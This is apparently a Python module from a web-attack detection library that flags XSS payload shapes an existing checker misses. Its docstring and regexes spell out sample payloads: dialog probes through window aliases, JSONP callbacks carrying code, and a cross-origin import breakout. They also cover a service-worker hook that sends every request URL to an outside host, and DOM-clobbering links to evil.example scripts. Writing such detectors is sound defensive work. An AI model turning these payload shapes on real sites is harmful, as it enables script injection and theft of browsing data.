"""Script statements that reach a sink, load a module or hook requests without a tag (fresh38's misses).

A value reflected into an inline script, an ``eval`` or a JSONP callback runs as JavaScript; these are the shapes
an attacker writes there that the tag, handler and breakout rules of ``xss`` do not read:

- a dialog reached through the window object itself rather than by its bare name, with the argument a probe passes
  (a number, ``document.domain``, ``document.cookie``, ``origin``): ``document.defaultView.alert(1)``,
  ``callSites.shift().getThis().alert(1337)`` (the receiver ``Error.prepareStackTrace`` hands back is the window),
  ``top.confirm(document.domain)``; and ``eval`` handed a string that calls a dialog (``window.eval("alert(1)")``).
  Application code opens dialogs with a message, not a number or the page's own domain;
- a block closed and a dialog called as the next statement with such an argument (``function f() {return 1;}
  alert(1);``): a hoisting injection declares what the page's script calls and then runs its own statement;
- a JavaScript string ended and a static ``import`` of a module from another origin as the next statement
  (``");import {x} from "https://…/m.js"//``);
- a JSONP URL whose callback parameter is code (``/jsonp?callback=onfetch=function(e){…}//``,
  ``?cb=(function(){…})()``): a callback is a function name, perhaps dotted; a function or an assignment there is
  what the endpoint will echo into a script;
- a service worker's fetch handler that sends every intercepted URL to an absolute address
  (``addEventListener('fetch', … fetch('https://x/' + e.request.url)``): the Shadow Workers hook;
- DOM-clobbering markup: an ``<a>`` or ``<area>`` with an ``id`` or ``name`` whose ``href`` is a script file
  (``<a id=config href=//evil.example/x.js>``), which a page's ``window.config || {}`` then loads as its script URL;
- markup whose tag is ``script``/a handler tag once a dotless ``ı`` is mapped to ``i`` as Windows' best-fit table
  and classic ASP's request decoding do (``<scrıpt>``, the ``%u0131`` of ``<%s%cr%u0131pt>``).

Every search is bounded, so a 128 KiB value costs one linear pass per search.
"""

from __future__ import annotations

import re

from bastion.detection.xss import is_xss

Span = tuple[int, int]

_DIALOG = r"(?:alert|confirm|prompt)"
_PROBE_ARG = (
    r"\(\s*(?:\d{1,10}|document\s*\.\s*(?:domain|cookie)|(?:window\s*\.\s*)?origin"
    r"|(?:document\s*\.\s*)?location(?:\s*\.\s*href)?|(['\"\x60])(?:\d{1,10}|xss)\1)?\s*\)"
)
"""The arguments a probe passes to a dialog: nothing, a number, the page's domain, cookie, origin or location, or
``'1'``/``'xss'``. A dialog in an application says something."""

_WINDOW_SINK = re.compile(
    r"(?<![\w$])(?:window|self|top|parent|frames|globalThis|opener|content|defaultView"
    r"|getThis\s*\(\s*\)|composedPath\s*\(\s*\)\s*\.\s*pop\s*\(\s*\))\s*\.\s*" + _DIALOG + r"\s*" + _PROBE_ARG
    + r"|(?<![\w$])eval\s*\(\s*(['\"\x60])[^'\"\x60\n]{0,60}?(?<![\w$.])" + _DIALOG + r"\s*\(",
    re.I,
)
_BLOCK_THEN_DIALOG = re.compile(r"\}[ \t]*(?:;[ \t]*|\r?\n[ \t]*)+(?<![\w$.])" + _DIALOG + r"\s*" + _PROBE_ARG)
_BREAKOUT_IMPORT = re.compile(
    r"['\"\x60]\s*[)\]}]{0,4}\s*;\s*import\s*(?:\{[^{}\n]{0,120}\}|\*\s*as\s+[\w$]{1,40}|[\w$]{1,40})\s*from\s*"
    r"['\"\x60](?:https?:)?//",
    re.I,
)
_JSONP_CODE = re.compile(
    r"[?&](?:callback|cb|jsonp|jsonpcallback|jsoncallback)=[\w$.]{0,60}"
    r"(?:=\s*(?:function\b|\(|[\w$]{1,40}\s*=>)|\(\s*function\b|\)\s*\(\s*\))",
    re.I,
)
_SW_EXFIL = re.compile(
    r"(?:\bonfetch\s*=|addEventListener\s*\(\s*['\"\x60]fetch['\"\x60])[^\x00]{0,300}?"
    r"(?:fetch|sendBeacon)\s*\(\s*['\"\x60](?:https?:)?//[^'\"\x60\s]{1,200}['\"\x60]\s*\+\s*"
    r"[\w$]{1,20}\s*\.\s*request\s*\.\s*url\b",
    re.I,
)
_ANCHOR_TAG = re.compile(r"<\s*(?:a|area)\s[^<>]{1,600}", re.I)
_NAMED = re.compile(r"\s(?:id|name)\s*=", re.I)
_SCRIPT_HREF = re.compile(r"\shref\s*=\s*['\"]?[^\s'\"<>]{0,300}\.js(?:[?#][^\s'\"<>]{0,200})?(?:['\"\s>]|$)", re.I)
"""An anchor's text (at most 600 characters) and, inside it, a naming attribute and an ``href`` ending in ``.js``
(each searched once per tag: no nested quantifiers)."""


def script_statement(value: str) -> Span | None:
    """The span of one of the module docstring's shapes in ``value``, or ``None``."""
    low = value.lower()
    if ("alert" in low or "confirm" in low or "prompt" in low) and (
            (m := _WINDOW_SINK.search(value)) is not None or ("}" in value and (m := _BLOCK_THEN_DIALOG.search(
                value)) is not None)):
        return m.start(), m.end()
    if "import" in low and "from" in low and (m := _BREAKOUT_IMPORT.search(value)) is not None:
        return m.start(), m.end()
    if "=" in value and ("callback" in low or "cb=" in low or "jsonp" in low) and (
            m := _JSONP_CODE.search(value)) is not None:
        return m.start(), m.end()
    if "request" in low and "fetch" in low and (m := _SW_EXFIL.search(value)) is not None:
        return m.start(), m.end()
    if "<" in value and ".js" in low and "href" in low:
        for tag in _ANCHOR_TAG.finditer(value):
            text = tag.group()
            if _NAMED.search(text) and _SCRIPT_HREF.search(text):
                return tag.start(), tag.end()
    return None


def best_fit_markup(value: str) -> Span | None:
    """``is_xss`` of ``value`` with the dotless ``ı`` (and ``İ``) read as ``i``/``I``, when that changes it."""
    if "<" not in value or ("\u0131" not in value and "\u0130" not in value):
        return None
    return (0, len(value)) if is_xss(value.replace("\u0131", "i").replace("\u0130", "I")) is not None else None
